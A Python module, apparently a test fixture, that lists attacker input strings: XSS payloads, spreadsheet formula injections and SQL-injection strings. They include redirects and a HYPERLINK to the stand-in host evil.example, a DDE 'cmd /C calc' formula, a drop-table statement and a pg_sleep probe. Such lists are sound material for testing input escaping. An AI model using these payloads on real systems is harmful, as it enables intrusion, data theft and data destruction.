"""Texts of an attacker: what browsers run, what spreadsheets run, and what databases would, were it pasted."""

from typing import Final

MARK: Final = "gg_mark"
"""Is part of every text for databases, and never part of a statement."""

SCRIPTS: Final = (
    "<script>gg(1)</script>",
    "</script><script>gg(2)</script>",
    "</title></textarea></style><script>gg(3)</script>",
    "<img src=x onerror=gg(4)>",
    '"><svg onload=gg(5)>',
    "' onmouseover='gg(6)' x='",
    "<iframe srcdoc='<script>parent.gg(7)</script>'></iframe>",
    "<a href='javascript:gg(8)'>x</a>",
    "javascript:gg(9)",
    "<details open ontoggle=gg(10)>x",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action='//evil.example/'><button>x</button></form>",
    "<math><mi xlink:href='javascript:gg(11)'>x",
    "<object data='javascript:gg(12)'></object>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<!--><script>gg(13)</script>-->",
    "{{ gg(14) }} ${gg(15)} <%= gg(16) %>",
    "\u2028gg(17)\u2029 `${gg(18)}` \\u003cscript\\u003egg(19)",
    "&lt;script&gt;gg(20)&lt;/script&gt;",
    '<noscript><p title="</noscript><img src=x onerror=gg(21)>">',
    '"};gg(22);//',
)

FORMULAS: Final = tuple(
    f"{start}{rest}"
    for start in ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "'=")  # noqa: RUF001 - full width
    for rest in ("1+1", 'HYPERLINK("http://evil.example")', "cmd|' /C calc'!A0", "SUM(A1:A9)*2")
)

STATEMENTS: Final = (
    f"'; select {MARK}; --",
    f"' or '{MARK}'='{MARK}",
    f'"; drop table {MARK}; --',
    f'x" or "{MARK}"="',
    f"1; select {MARK}",
    f"1 union select {MARK}",
    f"1) or {MARK}=(1",
    f"\\'; select {MARK}",
    f"$${MARK}$$",
    f"E'\\x27 {MARK}",
    f"{MARK}--",
    f"{MARK}/*",
    f"%({MARK})s %s :{MARK} {{{MARK}}}",
    f"{MARK}::regclass",
    f"pg_sleep(9)||{MARK}",
    f"-1' or {MARK} is null or 'a'='",
)
